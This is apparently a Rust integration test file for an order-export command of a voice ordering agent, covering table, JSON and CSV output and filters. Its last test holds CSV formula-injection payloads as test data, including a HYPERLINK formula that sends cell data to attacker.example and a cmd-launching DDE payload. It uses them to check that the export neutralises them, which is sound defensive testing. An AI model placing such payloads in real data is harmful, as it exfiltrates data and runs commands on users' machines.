//! `voiceagent orders`: listing, filtering and exporting a database with known orders, through
//! the real binary (configuration from the environment, exit codes, stdout).

use std::path::Path;
use std::process::{Command, Output};

use agent::ordering::store::{NewOrder, OrderLine};
use agent::ordering::OrderStore;
use chrono::{DateTime, TimeZone, Utc};
use serde_json::Value;

fn at(h: u32, m: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 3, 2, h, m, 0).unwrap()
}

fn line(article: &str, name: &str, quantity: f64, unit: &str, cents: i64) -> OrderLine {
    OrderLine {
        article_no: article.into(),
        name: name.into(),
        quantity,
        unit: unit.into(),
        unit_price_cents: cents,
    }
}

/// Three orders: confirmed (two lines), abandoned, confirmed (other caller).
fn fill(data_dir: &Path) {
    let mut store = OrderStore::open_in(data_dir).unwrap();
    let first = NewOrder {
        call_id: "call-1".into(),
        caller: "4930111".into(),
        started_at: at(10, 0),
        items: vec![
            line("100003", "T-Stück 3/4\" Messing", 2.0, "Stück", 419),
            line("300002", "Kupferrohr 15 mm, Stange", 2.5, "Meter", 650),
        ],
        transcript: "Anrufer: zwei T-Stücke\nAgent: gern".into(),
    };
    assert_eq!(store.confirm(&first, at(10, 5)).unwrap(), "A-2026-000001");
    let abandoned = NewOrder {
        call_id: "call-2".into(),
        caller: "4930222".into(),
        started_at: at(11, 0),
        items: vec![line("400001", "Kugelhahn 3/8\" IG/IG", 1.0, "Stück", 712)],
        transcript: String::new(),
    };
    store.save_abandoned(&abandoned, at(11, 2)).unwrap();
    let second = NewOrder {
        call_id: "call-3".into(),
        caller: "4930222".into(),
        started_at: at(12, 0),
        items: vec![line(
            "500001",
            "Flachdichtung 3/8\" Faser",
            3.0,
            "Packung",
            151,
        )],
        transcript: String::new(),
    };
    assert_eq!(store.confirm(&second, at(12, 4)).unwrap(), "A-2026-000002");
}

fn orders(data_dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_voiceagent"))
        .arg("orders")
        .args(args)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("DATA_DIR", data_dir)
        .current_dir(data_dir.parent().unwrap_or(data_dir))
        .output()
        .expect("running voiceagent orders")
}

fn stdout_ok(data_dir: &Path, args: &[&str]) -> String {
    let out = orders(data_dir, args);
    assert!(
        out.status.success(),
        "voiceagent orders {args:?} failed ({}): {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

fn json(data_dir: &Path, args: &[&str]) -> Vec<Value> {
    let mut all = vec!["--format", "json"];
    all.extend_from_slice(args);
    let text = stdout_ok(data_dir, &all);
    match serde_json::from_str(&text) {
        Ok(Value::Array(a)) => a,
        other => panic!("not a JSON array ({other:?}):\n{text}"),
    }
}

fn numbers(list: &[Value]) -> Vec<Option<&str>> {
    list.iter().map(|o| o["order_no"].as_str()).collect()
}

#[test]
fn orders_are_listed_filtered_and_exported() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    fill(&data);

    // Table: one line per order, oldest first, and a count.
    let table = stdout_ok(&data, &[]);
    let lines: Vec<&str> = table.lines().collect();
    assert_eq!(lines.len(), 4, "{table}");
    assert!(lines[0].starts_with("A-2026-000001"), "{table}");
    assert!(lines[0].contains("confirmed") && lines[0].contains("4930111"));
    assert!(
        lines[0].contains("24.63 EUR") && lines[0].contains("2 items"),
        "{table}"
    );
    assert!(
        lines[1].starts_with('-') && lines[1].contains("abandoned"),
        "{table}"
    );
    assert!(lines[1].contains("7.12 EUR"), "{table}");
    assert!(lines[2].starts_with("A-2026-000002") && lines[2].contains("4.53 EUR"));
    assert_eq!(lines[3], "3 orders");

    // JSON: everything, amounts in cents, items in order.
    let all = json(&data, &[]);
    assert_eq!(
        numbers(&all),
        vec![Some("A-2026-000001"), None, Some("A-2026-000002")]
    );
    let first = &all[0];
    assert_eq!(first["status"], "confirmed");
    assert_eq!(first["caller"], "4930111");
    assert_eq!(first["call_id"], "call-1");
    assert_eq!(first["started_at"], "2026-03-02T10:00:00.000Z");
    assert_eq!(first["ended_at"], "2026-03-02T10:05:00.000Z");
    assert_eq!(first["total_net_cents"], 2463);
    assert_eq!(first["items"][0]["article_no"], "100003");
    assert_eq!(first["items"][1]["quantity"], 2.5);
    assert_eq!(first["items"][1]["unit"], "Meter");
    assert_eq!(first["transcript"], "Anrufer: zwei T-Stücke\nAgent: gern");
    assert_eq!(all[1]["status"], "abandoned");
    assert_eq!(all[1]["items"][0]["article_no"], "400001");

    // Filters, alone and combined.
    assert_eq!(
        numbers(&json(&data, &["--status", "abandoned"])),
        vec![None]
    );
    assert_eq!(
        numbers(&json(&data, &["--status", "confirmed"])),
        vec![Some("A-2026-000001"), Some("A-2026-000002")]
    );
    assert_eq!(
        numbers(&json(&data, &["--caller", "4930222"])),
        vec![None, Some("A-2026-000002")]
    );
    assert_eq!(
        numbers(&json(
            &data,
            &["--caller", "4930222", "--status", "confirmed"]
        )),
        vec![Some("A-2026-000002")]
    );
    assert!(json(&data, &["--caller", "4930999"]).is_empty());

    // CSV: one row per order line, euro amounts.
    let csv_text = stdout_ok(&data, &["--format", "csv"]);
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(
        header,
        [
            "order_no",
            "status",
            "started_at",
            "ended_at",
            "caller",
            "call_id",
            "pos",
            "article_no",
            "name",
            "quantity",
            "unit",
            "unit_price_eur",
            "line_total_eur",
            "order_total_net_eur"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 4, "{csv_text}");
    let field = |row: usize, name: &str| {
        let i = header.iter().position(|h| h == name).unwrap();
        rows[row][i].to_string()
    };
    assert_eq!(field(0, "order_no"), "A-2026-000001");
    assert_eq!(field(0, "name"), "T-Stück 3/4\" Messing");
    assert_eq!(field(1, "pos"), "2");
    assert_eq!(field(1, "quantity"), "2.5");
    assert_eq!(field(1, "line_total_eur"), format_eur(1625));
    assert_eq!(field(1, "order_total_net_eur"), format_eur(2463));
    assert_eq!(field(2, "status"), "abandoned");
    assert_eq!(field(2, "order_no"), "");
    assert_eq!(field(3, "caller"), "4930222");
    assert_eq!(field(3, "line_total_eur"), format_eur(453));

    let filtered = stdout_ok(&data, &["--format", "csv", "--status", "abandoned"]);
    assert_eq!(filtered.lines().count(), 2, "{filtered}");

    // A wrong status is a usage error that names the valid ones.
    let bad = orders(&data, &["--status", "open"]);
    assert_eq!(bad.status.code(), Some(2));
    let err = String::from_utf8_lossy(&bad.stderr);
    assert!(err.contains("confirmed or abandoned"), "{err}");
}

#[test]
fn an_empty_database_lists_no_orders() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("fresh");
    assert_eq!(stdout_ok(&data, &[]), "0 orders\n");
    assert!(json(&data, &[]).is_empty());
    assert_eq!(stdout_ok(&data, &["--format", "csv"]).lines().count(), 1);
}

/// Caller numbers and names that a spreadsheet would run as formulas leave the CSV export as
/// text (a leading `'`, OWASP's advice); a real E.164 number keeps its digits behind the `'`; the
/// JSON export is unchanged.
#[test]
fn the_csv_export_neutralises_spreadsheet_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let hostile = [
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Rückruf\")",
        "+4930123456",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    {
        let mut store = OrderStore::open_in(&data).unwrap();
        for (i, caller) in hostile.iter().enumerate() {
            let order = NewOrder {
                call_id: format!("call-{i}"),
                caller: (*caller).into(),
                started_at: at(10, i as u32),
                items: vec![line("100003", caller, 1.0, "Stück", 100)],
                transcript: String::new(),
            };
            store.confirm(&order, at(10, i as u32 + 1)).unwrap();
        }
        let plain = NewOrder {
            call_id: "call-plain".into(),
            caller: "4930111".into(),
            started_at: at(11, 0),
            items: vec![line("100004", "Muffe 1/2\" - Messing", 1.0, "Stück", 100)],
            transcript: String::new(),
        };
        store.confirm(&plain, at(11, 1)).unwrap();
    }
    let csv_text = stdout_ok(&data, &["--format", "csv"]);
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), hostile.len() + 1, "{csv_text}");
    for (row, value) in rows.iter().zip(hostile) {
        assert_eq!(row[col("caller")], format!("'{value}"), "{csv_text}");
        assert_eq!(row[col("name")], format!("'{value}"), "{csv_text}");
    }
    // No cell of the file starts a formula.
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {csv_text}"
            );
        }
    }
    // Ordinary values are untouched, also with a dash inside.
    let plain = rows.last().unwrap();
    assert_eq!(&plain[col("caller")], "4930111");
    assert_eq!(&plain[col("name")], "Muffe 1/2\" - Messing");
    assert_eq!(&plain[col("order_no")], "A-2026-000007");
    // JSON carries the values as stored.
    let all = json(&data, &[]);
    assert_eq!(all[1]["caller"], "+4930123456");
    assert_eq!(all[0]["caller"], hostile[0]);
}

/// The export's euro format, taken from the catalog code so the test does not guess it.
fn format_eur(cents: i64) -> String {
    agent::ordering::catalog::format_eur(cents)
}
